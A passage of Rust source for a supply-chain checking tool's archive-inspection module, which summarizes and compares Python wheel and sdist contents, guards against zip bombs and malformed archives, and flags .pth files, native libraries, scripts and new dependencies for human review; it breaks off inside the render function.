//! What changed inside an archive: members, core metadata, `.pth` files, native libraries.
//!
//! When `hashpin check` finds new bytes under a filename the lockfile recorded, a hash mismatch
//! alone cannot tell a broken mirror from an attack. This module reads the earlier bytes (from
//! the cache) and the new ones, says why they differ ([`explain`]), lists what changed inside
//! ([`compare`]) and points a reviewer at the members to read first ([`Notable`], [`render`]).
//!
//! Archives are data here. Each member is streamed through a hasher, one at a time, in constant
//! memory; member paths stay strings and are never joined onto a filesystem path; nothing is
//! extracted, written to disk, imported or run. A zip bomb costs bounded time: an archive with
//! more than [`MAX_MEMBERS`] members or more than [`MAX_DECOMPRESSED_BYTES`] of decompressed
//! data is refused.
//!
//! Before bytes are ever recorded, [`examine`] says whether they are the archive their filename
//! promises at all (issue 8): an index without digests could otherwise have an HTML error page
//! or a body cut short recorded as the artifact.
//!
//! Non-goals: deciding whether a change is malicious (this module shows where to look, a person
//! decides); formats other than zip (wheels, `.zip` sdists) and gzip'd tar (`.tar.gz`/`.tgz`
//! sdists), so no `.tar.bz2`, `.tar.xz` or eggs; line diffs of members other than the core
//! metadata and `entry_points.txt`; and colors, which the caller adds.

use std::borrow::Cow;
use std::cell::Cell;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::{self, Write as _};
use std::io::{self, BufReader, Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};

use flate2::read::MultiGzDecoder;
use sha2::{Digest, Sha256};
use similar::TextDiff;
use zip::ZipArchive;
use zip::ZipReadOptions;
use zip::result::ZipError;

use crate::artifact::ArtifactName;
use crate::name::PackageName;
use crate::size::Size;

/// The most members (directories included) an archive may list before it is refused.
pub(crate) const MAX_MEMBERS: u64 = 100_000;

/// The most bytes an archive may decompress to, in total, before it is refused (zip-bomb guard).
pub(crate) const MAX_DECOMPRESSED_BYTES: u64 = 8 * 1024 * 1024 * 1024;

/// The most bytes of core metadata or entry points kept as text; the rest is cut off.
pub(crate) const MAX_METADATA_BYTES: usize = 1024 * 1024;

/// How many paths each of the added, removed and changed lists shows in [`render`].
const MAX_LISTED_PATHS: usize = 50;

/// How many leading bytes [`explain`] reads to say what a non-archive looks like.
const SNIFF_BYTES: usize = 8 * 1024;

/// The end-of-central-directory signature every complete zip archive carries near its end.
const ZIP_END_SIGNATURE: &[u8] = b"PK\x05\x06";

/// A zip's end record (22 bytes) plus the longest comment allowed after it (64 KiB).
const ZIP_END_SEARCH_BYTES: u64 = 22 + 65_535;

/// One member of an archive.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Member {
    /// Decompressed size in bytes. For a link, the length of its target text.
    pub(crate) size: u64,
    /// The sha256 digest (lowercase hex) of the decompressed contents. A link is hashed as its
    /// target text, the way zip stores links, so a new or retargeted link shows as changed.
    pub(crate) sha256: String,
}

/// The container format, decided by the filename's suffix.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum ArchiveKind {
    /// `.whl` or `.zip`.
    Zip,
    /// `.tar.gz` or `.tgz`.
    TarGz,
}

impl ArchiveKind {
    /// The kind a filename promises, or `None` for formats this module does not read.
    pub(crate) fn from_filename(filename: &str) -> Option<Self> {
        let lowercase = filename.to_ascii_lowercase();
        if lowercase.ends_with(".whl") || lowercase.ends_with(".zip") {
            Some(Self::Zip)
        } else if lowercase.ends_with(".tar.gz") || lowercase.ends_with(".tgz") {
            Some(Self::TarGz)
        } else {
            None
        }
    }
}

impl fmt::Display for ArchiveKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Zip => "zip archive",
            Self::TarGz => "gzip'd tar archive",
        })
    }
}

/// Whether an archive is a built or a source distribution, which decides where its metadata
/// lives and which members deserve a reviewer's attention.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Distribution {
    /// A `.whl`: metadata in `*.dist-info/`.
    Wheel,
    /// An sdist: everything under one `<name>-<version>/` directory, metadata in its `PKG-INFO`.
    Sdist,
}

impl Distribution {
    /// Wheels end in `.whl`; every other archive hashpin reads is an sdist.
    fn from_filename(filename: &str) -> Self {
        if filename.to_ascii_lowercase().ends_with(".whl") {
            Self::Wheel
        } else {
            Self::Sdist
        }
    }
}

/// What an archive holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct ArchiveSummary {
    /// The container format.
    pub(crate) kind: ArchiveKind,
    /// Wheel or sdist, from the filename.
    pub(crate) distribution: Distribution,
    /// Every member except directories, by its path inside the archive, verbatim.
    pub(crate) members: BTreeMap<String, Member>,
    /// Text of the core metadata: for a wheel `*.dist-info/METADATA`; for an sdist the top-level
    /// `<dir>/PKG-INFO`. Capped at [`MAX_METADATA_BYTES`]; invalid UTF-8 is replaced.
    pub(crate) metadata: Option<String>,
    /// Text of `*.dist-info/entry_points.txt` (for an sdist, `<dir>/*.egg-info/entry_points.txt`)
    /// if present, capped like `metadata`.
    pub(crate) entry_points: Option<String>,
}

/// A limit an archive went over.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum SizeLimit {
    /// Too many members.
    Members {
        /// The most allowed.
        limit: u64,
    },
    /// Too many bytes once decompressed.
    DecompressedBytes {
        /// The most allowed.
        limit: u64,
    },
}

impl fmt::Display for SizeLimit {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Members { limit } => write!(f, "it has more than {limit} members"),
            Self::DecompressedBytes { limit } => {
                write!(f, "it decompresses to more than {limit} bytes")
            }
        }
    }
}

/// Why an archive could not be summarized.
#[derive(Debug, thiserror::Error)]
pub(crate) enum InspectError {
    /// The file itself could not be read.
    #[error("could not read `{path}`")]
    Io {
        /// The archive on disk.
        path: PathBuf,
        /// What went wrong.
        #[source]
        source: io::Error,
    },
    /// The filename has a suffix this module does not read.
    #[error(
        "cannot look inside `{filename}`: only `.whl`, `.zip`, `.tar.gz` and `.tgz` archives are read"
    )]
    UnsupportedFilename {
        /// The artifact filename.
        filename: String,
    },
    /// The bytes are not an archive of the kind the filename promises.
    #[error("`{path}` is not a {expected}")]
    NotAnArchive {
        /// The file on disk.
        path: PathBuf,
        /// What the filename promised.
        expected: ArchiveKind,
    },
    /// The bytes start like an archive but end before the archive does.
    #[error("`{path}` ends before the {kind} does")]
    Truncated {
        /// The file on disk.
        path: PathBuf,
        /// What the bytes start as.
        kind: ArchiveKind,
    },
    /// A zip archive whose structure or contents are damaged or inconsistent.
    #[error("`{path}` is a damaged zip archive")]
    MalformedZip {
        /// The file on disk.
        path: PathBuf,
        /// What the zip reader found.
        #[source]
        source: ZipError,
    },
    /// A gzip'd tar archive whose compression or tar structure is damaged.
    #[error("`{path}` is a damaged gzip'd tar archive")]
    MalformedTarGz {
        /// The file on disk.
        path: PathBuf,
        /// What the gzip or tar reader found.
        #[source]
        source: io::Error,
    },
    /// The archive is over a size limit (a zip bomb, or simply too big to review).
    #[error("refusing to look inside `{path}`: {limit}")]
    TooLarge {
        /// The file on disk.
        path: PathBuf,
        /// The limit it went over.
        limit: SizeLimit,
    },
    /// The archive lists one path twice, so tools can disagree about which copy is installed.
    #[error("refusing to look inside `{path}`: it lists a member path more than once")]
    DuplicateMembers {
        /// The file on disk.
        path: PathBuf,
    },
}

/// Reads an archive: `.whl`/`.zip` as zip, `.tar.gz`/`.tgz` as gzip'd tar (decided by the
/// filename's suffix).
///
/// Every member except directories is hashed while it streams (constant memory). More than
/// [`MAX_MEMBERS`] members or more than [`MAX_DECOMPRESSED_BYTES`] decompressed in total is
/// refused with [`InspectError::TooLarge`]. A zip whose local headers disagree with its central
/// directory, or which lists a path twice, is refused too: pip's `zipfile` and this reader could
/// otherwise see different files. Member paths are data: they are kept as strings and never
/// joined onto a filesystem path.
///
/// # Errors
///
/// [`InspectError`] says why: the file could not be read, the filename's suffix is not one of
/// the above, the bytes are not that kind of archive or end early or are damaged, a limit was
/// exceeded, or a member path is listed twice.
pub(crate) fn summarize(path: &Path, filename: &str) -> Result<ArchiveSummary, InspectError> {
    read_archive(path, filename, MemberDigests::Computed)
}

/// Whether an archive read hashes each member: a summary that explains a difference needs the
/// digests; telling whether the bytes are the archive their filename promises does not, and
/// the bytes were just hashed whole by the download, so hashing every member again would
/// double the CPU of a first lock.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum MemberDigests {
    /// Every member is hashed.
    Computed,
    /// Members are not hashed: a tar is read through (a cut gzip stream shows only at its
    /// end), a zip's members only as far as their local headers, except its metadata. The
    /// summary's member digests are empty and it is never shown.
    Skipped,
}

/// Reads an archive through: the summary, with or without member digests.
fn read_archive(
    path: &Path,
    filename: &str,
    digests: MemberDigests,
) -> Result<ArchiveSummary, InspectError> {
    let kind =
        ArchiveKind::from_filename(filename).ok_or_else(|| InspectError::UnsupportedFilename {
            filename: filename.to_string(),
        })?;
    let file = fs_err::File::open(path).map_err(|source| InspectError::Io {
        path: path.to_path_buf(),
        source,
    })?;
    let decompressed = Cell::new(0);
    let mut collector = Collector {
        archive: path,
        kind,
        distribution: Distribution::from_filename(filename),
        decompressed: &decompressed,
        digests,
        entries_seen: 0,
        members: BTreeMap::new(),
        metadata: None,
        entry_points: None,
    };
    match kind {
        ArchiveKind::Zip => read_zip(file, &mut collector)?,
        ArchiveKind::TarGz => read_tar_gz(file, &mut collector)?,
    }
    Ok(collector.finish())
}

/// Streams every zip member into the collector.
fn read_zip(file: fs_err::File, collector: &mut Collector<'_>) -> Result<(), InspectError> {
    let path = collector.archive;
    let mut archive = match ZipArchive::new(BufReader::new(file)) {
        Ok(archive) => archive,
        Err(source) => return Err(diagnose_unreadable_zip(path, source)),
    };
    // The central directory is already in memory here, but it is bounded by the file's size
    // (46 bytes at least per entry); what these checks bound is the work that follows.
    if archive.len() as u64 > MAX_MEMBERS {
        return Err(collector.too_large(SizeLimit::Members { limit: MAX_MEMBERS }));
    }
    // `ZipArchive` keys members by name and keeps only one of a duplicated name.
    if archive.has_duplicate_names() {
        return Err(InspectError::DuplicateMembers {
            path: path.to_path_buf(),
        });
    }
    // Declared sizes can lie, so the real count below is what protects us; this only fails
    // fast on an honest giant.
    if archive
        .decompressed_size()
        .is_some_and(|declared| declared > u128::from(MAX_DECOMPRESSED_BYTES))
    {
        return Err(collector.too_large(SizeLimit::DecompressedBytes {
            limit: MAX_DECOMPRESSED_BYTES,
        }));
    }
    for index in 0..archive.len() {
        collector.count_entry()?;
        // Python's `zipfile` (what pip installs with) refuses a local header whose name differs
        // from the central directory's; checking both sides keeps us seeing what pip sees.
        let options = ZipReadOptions::new().enforce_header_consistency(true);
        let mut entry = archive
            .by_index_with_options(index, options)
            .map_err(|source| collector.zip_error(source))?;
        if entry.is_dir() {
            continue;
        }
        let name = match entry.name() {
            Ok(name) => name.into_owned(),
            Err(_) => String::from_utf8_lossy(entry.name_raw()).into_owned(),
        };
        // Telling the shape needs the directory, every local header and the metadata; the
        // other members' bytes are pinned by the whole file's hash, and inflating them all
        // again cost a first lock more than the download (real wheels are deflated).
        if collector.digests == MemberDigests::Skipped
            && metadata_role(collector.distribution, &name).is_none()
        {
            collector.note_member(name, entry.size())?;
            continue;
        }
        let mut content = MeteredReader {
            inner: &mut entry,
            decompressed: collector.decompressed,
        };
        collector.add_member(name, &mut content)?;
    }
    Ok(())
}

/// Names the reason a zip could not be opened: truncated, not a zip at all, or damaged.
fn diagnose_unreadable_zip(path: &Path, source: ZipError) -> InspectError {
    let source = match source {
        ZipError::Io(error) if !is_format_error(&error) => {
            return InspectError::Io {
                path: path.to_path_buf(),
                source: error,
            };
        }
        source => source,
    };
    let (starts_like_zip, has_end_record) = match zip_shape(path) {
        Ok(shape) => shape,
        Err(source) => {
            return InspectError::Io {
                path: path.to_path_buf(),
                source,
            };
        }
    };
    match (starts_like_zip, has_end_record) {
        // Local headers come first and the central directory last, so a cut-off download starts
        // right and has no end record.
        (true, false) => InspectError::Truncated {
            path: path.to_path_buf(),
            kind: ArchiveKind::Zip,
        },
        (false, false) => InspectError::NotAnArchive {
            path: path.to_path_buf(),
            expected: ArchiveKind::Zip,
        },
        (_, true) => InspectError::MalformedZip {
            path: path.to_path_buf(),
            source,
        },
    }
}

/// Whether a file starts with a zip local header, and whether its tail holds an end record.
fn zip_shape(path: &Path) -> io::Result<(bool, bool)> {
    let mut file = fs_err::File::open(path)?;
    let mut head = Vec::with_capacity(4);
    (&mut file).take(4).read_to_end(&mut head)?;
    let length = file.seek(SeekFrom::End(0))?;
    let tail_start = length.saturating_sub(ZIP_END_SEARCH_BYTES);
    file.seek(SeekFrom::Start(tail_start))?;
    let mut tail = Vec::new();
    file.take(ZIP_END_SEARCH_BYTES).read_to_end(&mut tail)?;
    let has_end_record = tail
        .windows(ZIP_END_SIGNATURE.len())
        .any(|window| window == ZIP_END_SIGNATURE);
    Ok((head == b"PK\x03\x04", has_end_record))
}

/// Streams every tar member into the collector, then reads the gzip stream to its end so that
/// its CRC and length trailer are checked (tar stops reading at its end-of-archive blocks).
fn read_tar_gz(mut file: fs_err::File, collector: &mut Collector<'_>) -> Result<(), InspectError> {
    let io_error = |source| InspectError::Io {
        path: collector.archive.to_path_buf(),
        source,
    };
    let mut magic = Vec::with_capacity(2);
    (&mut file)
        .take(2)
        .read_to_end(&mut magic)
        .map_err(io_error)?;
    if magic != [0x1f, 0x8b] {
        return Err(InspectError::NotAnArchive {
            path: collector.archive.to_path_buf(),
            expected: ArchiveKind::TarGz,
        });
    }
    file.rewind().map_err(io_error)?;
    // Python's `gzip`, which pip's `tarfile` uses, reads concatenated gzip members as one
    // stream; `GzDecoder` would stop after the first and miss the rest.
    let decoder = MeteredReader {
        inner: MultiGzDecoder::new(BufReader::new(file)),
        decompressed: collector.decompressed,
    };
    let mut archive = tar::Archive::new(decoder);
    let entries = archive
        .entries()
        .map_err(|source| collector.stream_error(source))?;
    for entry in entries {
        let mut entry = entry.map_err(|source| collector.stream_error(source))?;
        collector.count_entry()?;
        let name = String::from_utf8_lossy(&entry.path_bytes()).into_owned();
        let entry_type = entry.header().entry_type();
        if entry_type.is_dir() || entry_type.is_pax_global_extensions() {
            continue;
        }
        if entry_type.is_symlink() || entry_type.is_hard_link() {
            let target = entry.link_name_bytes().unwrap_or_default().into_owned();
            collector.add_member(name, &mut target.as_slice())?;
            continue;
        }
        let declared = entry.size();
        let read = collector.add_member(name, &mut entry)?;
        if read < declared {
            return Err(InspectError::Truncated {
                path: collector.archive.to_path_buf(),
                kind: ArchiveKind::TarGz,
            });
        }
    }
    let mut rest = archive.into_inner();
    io::copy(&mut rest, &mut io::sink()).map_err(|source| collector.stream_error(source))?;
    Ok(())
}

/// Counts decompressed bytes across every reader of one archive and fails past the limit.
struct MeteredReader<'a, R> {
    /// The decompressing reader.
    inner: R,
    /// Bytes decompressed so far in this archive, shared by all its readers.
    decompressed: &'a Cell<u64>,
}

impl<R: Read> Read for MeteredReader<'_, R> {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        let read = self.inner.read(buffer)?;
        let total = self.decompressed.get().saturating_add(read as u64);
        self.decompressed.set(total);
        if total > MAX_DECOMPRESSED_BYTES {
            // The caller sees the count and reports `TooLarge`; this text is never shown.
            return Err(io::Error::other("decompressed size limit exceeded"));
        }
        Ok(read)
    }
}

/// Hashes one member and keeps the first bytes of it when it is metadata.
struct MemberSink {
    /// The running sha256, unless members are not hashed.
    hasher: Option<Sha256>,
    /// Bytes seen.
    size: u64,
    /// Kept text, for metadata members only, up to [`MAX_METADATA_BYTES`].
    captured: Option<Vec<u8>>,
}

impl Write for MemberSink {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        if let Some(hasher) = &mut self.hasher {
            hasher.update(bytes);
        }
        self.size += bytes.len() as u64;
        if let Some(captured) = &mut self.captured {
            let room = MAX_METADATA_BYTES.saturating_sub(captured.len());
            captured.extend_from_slice(&bytes[..room.min(bytes.len())]);
        }
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Which metadata file a member is, if any.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum MetadataRole {
    /// `METADATA` or `PKG-INFO`.
    Core,
    /// `entry_points.txt`.
    EntryPoints,
}

/// A metadata member's path and its first bytes.
struct CapturedText {
    /// The member path, to pick one deterministically when several match.
    member: String,
    /// The kept bytes.
    bytes: Vec<u8>,
}

/// Accumulates the summary of one archive while it streams.
struct Collector<'a> {
    /// The archive on disk, for error messages.
    archive: &'a Path,
    /// The container format.
    kind: ArchiveKind,
    /// Wheel or sdist.
    distribution: Distribution,
    /// Decompressed bytes so far, shared with the [`MeteredReader`]s.
    decompressed: &'a Cell<u64>,
    /// Whether members are hashed.
    digests: MemberDigests,
    /// Entries seen, directories included.
    entries_seen: u64,
    /// Members hashed so far.
    members: BTreeMap<String, Member>,
    /// The core metadata member, if one was seen.
    metadata: Option<CapturedText>,
    /// The entry points member, if one was seen.
    entry_points: Option<CapturedText>,
}

impl Collector<'_> {
    /// Counts one entry against [`MAX_MEMBERS`].
    fn count_entry(&mut self) -> Result<(), InspectError> {
        self.entries_seen += 1;
        if self.entries_seen > MAX_MEMBERS {
            return Err(self.too_large(SizeLimit::Members { limit: MAX_MEMBERS }));
        }
        Ok(())
    }

    /// Notes a member whose content is not read (its size as the archive declares it).
    fn note_member(&mut self, name: String, size: u64) -> Result<(), InspectError> {
        if self.members.contains_key(&name) {
            return Err(InspectError::DuplicateMembers {
                path: self.archive.to_path_buf(),
            });
        }
        self.members.insert(
            name,
            Member {
                size,
                sha256: String::new(),
            },
        );
        Ok(())
    }

    /// Hashes one member; returns how many bytes it held.
    fn add_member(&mut self, name: String, content: &mut dyn Read) -> Result<u64, InspectError> {
        if self.members.contains_key(&name) {
            return Err(InspectError::DuplicateMembers {
                path: self.archive.to_path_buf(),
            });
        }
        let role = metadata_role(self.distribution, &name);
        let mut sink = MemberSink {
            hasher: (self.digests == MemberDigests::Computed).then(Sha256::new),
            size: 0,
            captured: role.map(|_| Vec::new()),
        };
        io::copy(content, &mut sink).map_err(|source| self.stream_error(source))?;
        let size = sink.size;
        if let (Some(role), Some(bytes)) = (role, sink.captured) {
            let slot = match role {
                MetadataRole::Core => &mut self.metadata,
                MetadataRole::EntryPoints => &mut self.entry_points,
            };
            // pip refuses a wheel with two `.dist-info` directories; keep the first by path so
            // the summary does not depend on member order.
            if slot.as_ref().is_none_or(|kept| name < kept.member) {
                *slot = Some(CapturedText {
                    member: name.clone(),
                    bytes,
                });
            }
        }
        self.members.insert(
            name,
            Member {
                size,
                sha256: sink
                    .hasher
                    .map(|hasher| hex::encode(hasher.finalize()))
                    .unwrap_or_default(),
            },
        );
        Ok(size)
    }

    /// The error for a limit this archive went over.
    fn too_large(&self, limit: SizeLimit) -> InspectError {
        InspectError::TooLarge {
            path: self.archive.to_path_buf(),
            limit,
        }
    }

    /// Turns an error from the zip reader into ours.
    fn zip_error(&self, source: ZipError) -> InspectError {
        match source {
            ZipError::Io(error) => self.stream_error(error),
            source => InspectError::MalformedZip {
                path: self.archive.to_path_buf(),
                source,
            },
        }
    }

    /// Turns an error met while decompressing into ours: over the limit, cut off, damaged, or a
    /// real I/O failure of the file.
    fn stream_error(&self, source: io::Error) -> InspectError {
        let path = self.archive.to_path_buf();
        if self.decompressed.get() > MAX_DECOMPRESSED_BYTES {
            return self.too_large(SizeLimit::DecompressedBytes {
                limit: MAX_DECOMPRESSED_BYTES,
            });
        }
        if source.kind() == io::ErrorKind::UnexpectedEof {
            return InspectError::Truncated {
                path,
                kind: self.kind,
            };
        }
        if !is_format_error(&source) {
            return InspectError::Io { path, source };
        }
        match self.kind {
            ArchiveKind::Zip => InspectError::MalformedZip {
                path,
                source: ZipError::Io(source),
            },
            ArchiveKind::TarGz => InspectError::MalformedTarGz { path, source },
        }
    }

    /// The finished summary.
    fn finish(self) -> ArchiveSummary {
        let text = |captured: Option<CapturedText>| {
            captured.map(|captured| String::from_utf8_lossy(&captured.bytes).into_owned())
        };
        ArchiveSummary {
            kind: self.kind,
            distribution: self.distribution,
            members: self.members,
            metadata: text(self.metadata),
            entry_points: text(self.entry_points),
        }
    }
}

/// Whether an I/O error describes the bytes (damaged data) rather than the disk. The decoders
/// report bad data as `InvalidData`/`InvalidInput`, and the tar crate as `Other`.
fn is_format_error(error: &io::Error) -> bool {
    matches!(
        error.kind(),
        io::ErrorKind::InvalidData
            | io::ErrorKind::InvalidInput
            | io::ErrorKind::UnexpectedEof
            | io::ErrorKind::Other
    )
}

/// The path's components, ignoring a leading `./` and empty parts (`a//b`), for matching only.
fn components(path: &str) -> Vec<&str> {
    path.split('/')
        .filter(|part| !part.is_empty() && *part != ".")
        .collect()
}

/// Whether a member holds the core metadata or the entry points.
fn metadata_role(distribution: Distribution, path: &str) -> Option<MetadataRole> {
    match (distribution, components(path).as_slice()) {
        // Wheel spec: `{name}-{version}.dist-info/METADATA` at the root.
        (Distribution::Wheel, [directory, file]) if directory.ends_with(".dist-info") => {
            match *file {
                "METADATA" => Some(MetadataRole::Core),
                "entry_points.txt" => Some(MetadataRole::EntryPoints),
                _ => None,
            }
        }
        // sdist spec: `{name}-{version}/PKG-INFO`; setuptools keeps entry points in the
        // `*.egg-info` directory beside it.
        (Distribution::Sdist, [_, "PKG-INFO"]) => Some(MetadataRole::Core),
        (Distribution::Sdist, [_, directory, "entry_points.txt"])
            if directory.ends_with(".egg-info") =>
        {
            Some(MetadataRole::EntryPoints)
        }
        _ => None,
    }
}

/// Member-level differences between the recorded archive and the observed one.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct ArchiveChanges {
    /// Paths only in the observed archive, sorted.
    pub(crate) added: Vec<String>,
    /// Paths only in the recorded archive, sorted.
    pub(crate) removed: Vec<String>,
    /// Paths in both whose contents differ, sorted.
    pub(crate) changed: Vec<String>,
    /// Unified diff (3 lines of context, `--- recorded/METADATA` / `+++ observed/METADATA`
    /// headers) of the core metadata when it differs, else `None`. Control characters are
    /// escaped, so the diff is safe to print.
    pub(crate) metadata_diff: Option<String>,
    /// Same for `entry_points.txt`.
    pub(crate) entry_points_diff: Option<String>,
    /// Members a reviewer must look at first, among added or changed ones, and
    /// `Requires-Dist` lines added to the metadata; sorted by kind, then path.
    pub(crate) notable: Vec<Notable>,
}

impl ArchiveChanges {
    /// Whether nothing inside the archive changed.
    pub(crate) fn is_empty(&self) -> bool {
        self.added.is_empty()
            && self.removed.is_empty()
            && self.changed.is_empty()
            && self.metadata_diff.is_none()
            && self.entry_points_diff.is_none()
            && self.notable.is_empty()
    }
}

/// An added or changed member (or dependency) that a reviewer must look at first.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Notable {
    /// A `.pth` file: `site` runs its `import` lines at every interpreter start.
    PthFile(String),
    /// Compiled code (`.so`, `.so.*`, `.pyd`, `.dll`, `.dylib`), which cannot be read as source.
    NativeLibrary(String),
    /// A script installed as a command: `*.data/scripts/*` in a wheel, `<dir>/bin/*` in an sdist.
    Script(String),
    /// An sdist's `setup.py`, `pyproject.toml` or `setup.cfg`: what runs when pip builds it.
    BuildScript(String),
    /// A `Requires-Dist` value that is new in the metadata.
    NewDependency(String),
}

impl fmt::Display for Notable {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::PthFile(path) => write!(
                f,
                ".pth file `{}` (runs at every interpreter start)",
                escape_for_terminal(path)
            ),
            Self::NativeLibrary(path) => write!(
                f,
                "native library `{}` (compiled code, not reviewable as source)",
                escape_for_terminal(path)
            ),
            Self::Script(path) => write!(
                f,
                "script `{}` (installed as a command)",
                escape_for_terminal(path)
            ),
            Self::BuildScript(path) => write!(
                f,
                "build script `{}` (decides what runs when the sdist is built)",
                escape_for_terminal(path)
            ),
            Self::NewDependency(requirement) => write!(
                f,
                "new dependency `{}` (Requires-Dist)",
                escape_for_terminal(requirement)
            ),
        }
    }
}

/// Compares two summaries of archives published under one filename.
pub(crate) fn compare(recorded: &ArchiveSummary, observed: &ArchiveSummary) -> ArchiveChanges {
    let added: Vec<String> = observed
        .members
        .keys()
        .filter(|path| !recorded.members.contains_key(*path))
        .cloned()
        .collect();
    let removed: Vec<String> = recorded
        .members
        .keys()
        .filter(|path| !observed.members.contains_key(*path))
        .cloned()
        .collect();
    let changed: Vec<String> = observed
        .members
        .iter()
        .filter(|(path, member)| {
            recorded
                .members
                .get(*path)
                .is_some_and(|earlier| earlier != *member)
        })
        .map(|(path, _)| path.clone())
        .collect();

    let mut notable: Vec<Notable> = added
        .iter()
        .chain(&changed)
        .filter_map(|path| classify(observed.distribution, path))
        .collect();
    let earlier_dependencies: BTreeSet<&str> = recorded
        .metadata
        .as_deref()
        .map(|text| metadata_values(text, "Requires-Dist").collect())
        .unwrap_or_default();
    let new_dependencies: BTreeSet<&str> = observed
        .metadata
        .as_deref()
        .map(|text| metadata_values(text, "Requires-Dist").collect())
        .unwrap_or_default();
    notable.extend(
        new_dependencies
            .difference(&earlier_dependencies)
            .map(|requirement| Notable::NewDependency((*requirement).to_string())),
    );
    notable.sort();

    ArchiveChanges {
        added,
        removed,
        changed,
        metadata_diff: text_diff(
            "METADATA",
            recorded.metadata.as_deref(),
            observed.metadata.as_deref(),
        ),
        entry_points_diff: text_diff(
            "entry_points.txt",
            recorded.entry_points.as_deref(),
            observed.entry_points.as_deref(),
        ),
        notable,
    }
}

/// Why an added or changed member deserves attention, if it does.
fn classify(distribution: Distribution, path: &str) -> Option<Notable> {
    let parts = components(path);
    let file_name = parts.last()?.to_ascii_lowercase();
    if file_name.ends_with(".pth") {
        return Some(Notable::PthFile(path.to_string()));
    }
    if is_native_library(&file_name) {
        return Some(Notable::NativeLibrary(path.to_string()));
    }
    let is_script = match (distribution, parts.as_slice()) {
        // Wheel spec: `{name}-{version}.data/scripts/` is installed into the scripts directory.
        (Distribution::Wheel, [data, "scripts", _, ..]) => data.ends_with(".data"),
        (Distribution::Sdist, [_, "bin", _, ..]) => true,
        _ => false,
    };
    if is_script {
        return Some(Notable::Script(path.to_string()));
    }
    if distribution == Distribution::Sdist
        && matches!(
            parts.as_slice(),
            [_, "setup.py" | "pyproject.toml" | "setup.cfg"]
        )
    {
        return Some(Notable::BuildScript(path.to_string()));
    }
    None
}

/// `.so`, `.so.1.2`, `.pyd`, `.dll`, `.dylib` (the name already lowercased).
fn is_native_library(file_name: &str) -> bool {
    if [".so", ".pyd", ".dll", ".dylib"]
        .iter()
        .any(|suffix| file_name.ends_with(suffix))
    {
        return true;
    }
    // Versioned shared objects, as auditwheel vendors them: `libfoo.so.1.2.3`.
    file_name.split_once(".so.").is_some_and(|(stem, version)| {
        !stem.is_empty() && version.split('.').all(|part| part.parse::<u32>().is_ok())
    })
}

/// The values of one header field in core metadata (RFC 822 style: headers end at the first
/// blank line, where the description body starts; names are case-insensitive).
fn metadata_values<'a>(metadata: &'a str, field: &'a str) -> impl Iterator<Item = &'a str> {
    metadata
        .lines()
        .take_while(|line| !line.trim().is_empty())
        .filter_map(move |line| {
            let (name, value) = line.split_once(':')?;
            name.trim()
                .eq_ignore_ascii_case(field)
                .then_some(value.trim())
        })
}

/// A unified diff of two texts labelled `recorded/<label>` and `observed/<label>`, or `None`
/// when they are equal. A missing text diffs as empty.
fn text_diff(label: &str, recorded: Option<&str>, observed: Option<&str>) -> Option<String> {
    if recorded == observed {
        return None;
    }
    let recorded = escape_text_for_terminal(recorded.unwrap_or_default());
    let observed = escape_text_for_terminal(observed.unwrap_or_default());
    let diff = TextDiff::from_lines(recorded.as_ref(), observed.as_ref())
        .unified_diff()
        .context_radius(3)
        .header(&format!("recorded/{label}"), &format!("observed/{label}"))
        .to_string();
    Some(diff)
}

/// Escapes characters that could drive a terminal or reorder text on screen: control
/// characters and Unicode bidirectional controls ("Trojan Source"). Member paths and metadata
/// come from whoever published the archive; a hook's output, from whatever the hook ran.
pub(crate) fn escape_for_terminal(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unsafe_for_terminal) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len() + 8);
    for character in text.chars() {
        if is_unsafe_for_terminal(character) {
            escaped.extend(character.escape_default());
        } else {
            escaped.push(character);
        }
    }
    Cow::Owned(escaped)
}

/// [`escape_for_terminal`] for multi-line text: keeps tabs and line breaks (`\n`, `\r\n`) but
/// escapes a lone `\r`, which could overwrite a line on screen.
pub(crate) fn escape_text_for_terminal(text: &str) -> Cow<'_, str> {
    let needs_escaping = |character: char| {
        !matches!(character, '\n' | '\r' | '\t') && is_unsafe_for_terminal(character)
    };
    let has_lone_carriage_return = text
        .match_indices('\r')
        .any(|(index, _)| !text[index + 1..].starts_with('\n'));
    if !has_lone_carriage_return && !text.chars().any(needs_escaping) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len() + 8);
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        let keep = match character {
            '\r' => characters.peek() == Some(&'\n'),
            character => !needs_escaping(character),
        };
        if keep {
            escaped.push(character);
        } else {
            escaped.extend(character.escape_default());
        }
    }
    Cow::Owned(escaped)
}

/// Control characters and Unicode bidirectional formatting characters.
fn is_unsafe_for_terminal(character: char) -> bool {
    character.is_control()
        || matches!(
            character,
            '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        )
}

/// Human-readable rendering: a counts line, notable items (`! `), the added (`+ `), removed
/// (`- `) and changed (`~ `) paths (each list capped at 50 with "… and N more"), then the
/// metadata and entry-point diffs. No colors: the caller colors. Paths are escaped so that a
/// crafted member name cannot drive the terminal.
pub(crate) fn render(changes: &ArchiveChanges) -> String {
    let mut out = String::new();
    let changed_count = changes.changed.len();
    let _ = writeln!(
